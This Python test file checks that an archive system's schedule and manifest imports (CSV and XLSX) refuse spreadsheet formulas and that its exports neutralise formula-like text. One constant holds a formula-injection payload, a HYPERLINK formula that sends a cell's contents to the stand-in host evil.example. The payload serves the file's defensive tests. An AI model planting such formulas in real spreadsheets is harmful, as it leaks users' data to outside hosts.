"""Spreadsheets in and out: formulas refused at import, naming the row and column (schedules
in CSV and XLSX, manifests), a text that starts like a formula written out as text by
every export (CLI and web), and a manifest in a legacy encoding refused by its name."""

import csv
import io
import subprocess
from collections.abc import Sequence
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from archive_schema.retention import ScheduleError
from archive_schema.schedule_files import read_schedule, write_schedule
from pipelines.ingest.intake import intake
from pipelines.ingest.manifest import ManifestError, read_manifest
from tests.bad_files import image_bytes
from tests.conftest import sohoa
from tests.legacy_encodings import windows_1258
from tests.web_server import add_user

HEADERS = ["Điều khoản", "Tên nhóm hồ sơ tài liệu", "Thời hạn bảo quản", "Ghi chú"]
OFFICER_PASSWORD = "mat-khau-2026-dai"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")'


def workbook(*rows: Sequence[object]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_formulas_in_a_schedule_are_refused_naming_row_and_column() -> None:
    table = (
        "Điều khoản,Tên nhóm hồ sơ tài liệu,Thời hạn bảo quản,Ghi chú\n"
        f'1.1,Hồ sơ hội nghị,10,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n'
        "1.2,=1+2,10,\n"
        "1.3,Công văn,-2+3,\n"
        "1.4,- Hồ sơ gốc,10,'=chỉ là chữ\n"
    ).encode()
    with pytest.raises(ScheduleError) as refused:
        read_schedule("x", table, "lich.csv")
    assert refused.value.problems == [
        'lich.csv: row 2, column Ghi chú: a formula (=HYPERLINK("http://evil.example/?"&A2,"B…):'
        " formulas are not accepted, type the value itself",
        "lich.csv: row 3, column Tên nhóm hồ sơ tài liệu: a formula (=1+2): formulas are not"
        " accepted, type the value itself",
        "lich.csv: row 4, column Thời hạn bảo quản: a formula (-2+3): formulas are not"
        " accepted, type the value itself",
    ]
    book = workbook(HEADERS, ["1.1", "Hồ sơ", 10, "=1+2"], ["1.2", "=A2", 10, None])
    with pytest.raises(ScheduleError) as from_excel:
        read_schedule("x", book, "lich.xlsx")
    assert [p.split(":")[1] for p in from_excel.value.problems] == [
        " row 2, column Ghi chú",
        " row 3, column Tên nhóm hồ sơ tài liệu",
    ]


def test_every_export_writes_a_formula_like_text_as_text(tmp_path: Path) -> None:
    quoted = (
        "Điều khoản,Tên nhóm hồ sơ tài liệu,Thời hạn bảo quản,Ghi chú\n"
        "1.1,'=1+2 là chữ,10,- Hồ sơ gốc\n"
        "1.2,'@SUM(A1),10,'+84 24 3824 0000\n"
    ).encode()
    schedule = read_schedule("tricky", quoted, "lich.csv")
    assert [(r.description, r.notes) for r in schedule.rows] == [
        ("=1+2 là chữ", "- Hồ sơ gốc"),
        ("@SUM(A1)", "+84 24 3824 0000"),
    ]
    exported = list(csv.reader(io.StringIO(write_schedule(schedule, ".csv").decode("utf-8-sig"))))
    assert exported[1][2] == "'=1+2 là chữ" and exported[2][2] == "'@SUM(A1)"
    assert exported[1][5] == "'- Hồ sơ gốc"
    sheet = load_workbook(io.BytesIO(write_schedule(schedule, ".xlsx"))).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value]
    assert all(c.data_type != "f" for c in cells)
    assert sheet["C2"].value == "=1+2 là chữ" and sheet["C2"].quotePrefix
    for suffix in (".csv", ".xlsx"):  # and back: the same schedule
        assert read_schedule("tricky", write_schedule(schedule, suffix), f"x{suffix}") == schedule


def import_as_officer(home: Path, schedule: Path) -> subprocess.CompletedProcess[str]:
    return sohoa(
        home,
        *("retention", "import", str(schedule), "--reason", "thử", "--user", "thu"),
        "--password-stdin",
        stdin=f"{OFFICER_PASSWORD}\n",
    )


def test_the_command_line_exports_no_live_formula(tmp_path: Path) -> None:
    home = tmp_path / "home"
    add_user(home, "thu", "records_officer", OFFICER_PASSWORD)
    source = tmp_path / "lich.csv"
    source.write_text(
        "Điều khoản,Tên nhóm hồ sơ tài liệu,Thời hạn bảo quản,Tên loại\n"
        '1.9,\'=HYPERLINK("http://x"),10,Công văn\n',
        encoding="utf-8",
    )
    imported = import_as_officer(home, source)
    assert imported.returncode == 0, imported.stderr
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"out.{suffix}"
        assert sohoa(home, "retention", "export", str(out)).returncode == 0
        if suffix == "csv":
            assert "'=HYPERLINK" in out.read_text("utf-8-sig")
        else:
            cells = load_workbook(out).worksheets[0]["C"]
            assert [c.data_type for c in cells if str(c.value).startswith("=")] == ["s"]
    refused = tmp_path / "bad.csv"
    refused.write_text(
        "Điều khoản,Tên nhóm hồ sơ tài liệu,Thời hạn bảo quản\n1.9,=1+2,10\n", encoding="utf-8"
    )
    answer = import_as_officer(home, refused)
    assert answer.returncode == 2 and "row 2, column Tên nhóm hồ sơ tài liệu" in answer.stderr


def test_a_formula_in_a_manifest_refuses_its_row(tmp_path: Path) -> None:
    batch = tmp_path / "batch"
    batch.mkdir()
    (batch / "a.png").write_bytes(image_bytes("PNG"))
    (batch / "b.png").write_bytes(image_bytes("PNG", size=(410, 300)))
    (batch / "manifest.xlsx").write_bytes(
        workbook(["Tệp", "Trích yếu"], ["a.png", '=CONCAT("V/v ","họp")'], ["b.png", "V/v họp"])
    )
    received = intake(batch, tmp_path / "work", set())
    assert [d.name for d in received.documents] == ["b.png"]
    (refused,) = received.rejected
    assert refused.name == "a.png"
    assert refused.reason.startswith(
        "manifest.xlsx row 2, column Trích yếu (subject): a formula (=CONCAT("
    )


def test_a_manifest_in_windows_1258_is_refused_naming_the_encoding(tmp_path: Path) -> None:
    manifest = tmp_path / "manifest.csv"
    manifest.write_bytes(windows_1258("Tệp,Trích yếu\na.png,Về việc họp giao ban\n"))
    with pytest.raises(ManifestError, match=r"manifest\.csv: the file is in Windows-1258"):
        read_manifest(manifest)
